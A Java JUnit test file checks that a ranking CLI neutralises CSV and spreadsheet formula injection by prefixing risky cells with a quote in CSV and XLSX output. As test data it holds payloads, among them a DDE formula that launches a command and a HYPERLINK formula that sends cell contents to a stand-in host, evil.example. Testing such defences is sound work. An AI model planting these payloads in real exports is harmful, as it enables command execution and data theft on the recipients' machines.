package io.appraisal.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.appraisal.example.ExampleData;
import io.appraisal.io.csv.Csv;
import io.appraisal.io.csv.CsvRecord;
import io.appraisal.io.csv.CsvTable;
import io.appraisal.io.results.RankingCsv;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** OWASP CSV injection: text cells that a spreadsheet would run as a formula are written with a leading quote. */
class FormulaInjectionTest {
  /** The unit names that carry the payloads, by the unit whose name they replace. */
  private static final Map<String, String> PAYLOADS = Map.of(
      "P01", "=cmd|' /C calc'!A0",
      "P02", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")",
      "P03", "+1",
      "P04", "-1+1",
      "P05", "@SUM(1)");

  @TempDir
  Path dir;

  @ParameterizedTest
  @ValueSource(strings = {"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "+1", "-1+1", "@SUM(1)",
      "\tx", "\rx"})
  void everyPayloadGetsALeadingQuote(String payload) {
    assertEquals("'" + payload, Csv.text(payload));
  }

  @Test
  void harmlessTextIsUnchanged() {
    assertEquals("市司法局", Csv.text("市司法局"));
    assertEquals("a=b", Csv.text("a=b"));
    assertEquals("", Csv.text(""));
  }

  @Test
  void unitNamesInCsvAndXlsxAreNeutralisedAndNumbersStayNumbers() throws IOException {
    Path data = Files.createDirectories(dir.resolve("data"));
    for (String file : List.of("units.csv", "values.csv", "adjustments.csv", "corrections.csv")) {
      try (InputStream in = ExampleData.class.getClassLoader().getResourceAsStream(ExampleData.RESOURCE_FOLDER
          + file)) {
        String text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        if (file.equals("units.csv")) {
          StringBuilder edited = new StringBuilder();
          for (String line : text.split("\n")) {
            String id = line.split(",", -1)[0];
            String payload = PAYLOADS.get(id);
            edited.append(payload == null ? line : id + "," + Csv.field(payload) + line.substring(
                line.indexOf(',', id.length() + 1))).append('\n');
          }
          text = edited.toString();
        }
        Files.writeString(data.resolve(file), text);
      }
    }
    Path out = dir.resolve("out");
    Cli.Run run = Cli.run("rank", "--data", data.toString(), "--out", out.toString(), "--format", "csv,xlsx");
    assertEquals(0, run.exit(), run.err());

    CsvTable csv = Csv.read("r.csv", Files.readAllBytes(out.resolve("ranking-2022-Q4.csv")));
    Map<String, String> names = new HashMap<>();
    boolean negativeChange = false;
    List<String> header = RankingCsv.HEADER;
    for (CsvRecord record : csv.records()) {
      List<String> fields = record.fields();
      if (!fields.equals(header)) {
        names.put(fields.get(header.indexOf("unit_id")), fields.get(header.indexOf("unit_name")));
        negativeChange |= fields.get(header.indexOf("rank_change")).matches("-[0-9]+");
      }
    }
    PAYLOADS.forEach((id, payload) -> assertEquals("'" + payload, names.get(id), id));
    assertTrue(negativeChange, "a fall in rank is written -N, a number, not escaped");

    try (XSSFWorkbook book = new XSSFWorkbook(Files.newInputStream(out.resolve("ranking-2022-Q4.xlsx")))) {
      Sheet sheet = book.getSheetAt(0);
      Map<String, String> shown = new HashMap<>();
      for (Row row : sheet) {
        if (row.getRowNum() > 0) {
          assertEquals(CellType.NUMERIC, row.getCell(0).getCellType(), "the rank is a number");
          shown.put(row.getCell(2).getStringCellValue(), row.getCell(3).getStringCellValue());
        }
      }
      PAYLOADS.forEach((id, payload) -> assertEquals("'" + payload, shown.get(id), id));
    }
  }
}
